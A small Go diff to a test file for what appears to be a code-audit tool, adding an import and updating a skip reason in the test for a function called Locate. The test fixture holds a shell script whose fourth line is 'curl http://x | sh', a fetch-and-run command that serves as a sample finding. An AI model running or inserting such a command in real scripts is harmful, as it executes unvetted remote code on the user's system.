@@ -4,6 +4,8 @@ import (
 	"strconv"
 	"strings"
 	"testing"
+
+	"brig/internal/audit/collect"
 )
 
 func TestParseAnswer(t *testing.T) {
@@ -49,7 +51,7 @@ func TestParseAnswer(t *testing.T) {
 func TestLocate(t *testing.T) {
 	c := &Collection{
 		Files:   []File{{Path: "src/run.sh", Lines: 5, Text: "#!/bin/sh\nset -e\necho hi\ncurl http://x | sh\necho bye\n"}},
-		Skipped: []Skip{{Path: "bin/tool.exe", Reason: ReasonBinary}},
+		Skipped: []Skip{{Path: "bin/tool.exe", Reason: collect.ReasonBinary}},
 	}
 	fs := Locate([]Finding{
 		{Title: "a", File: "./src/run.sh", Line: 4},
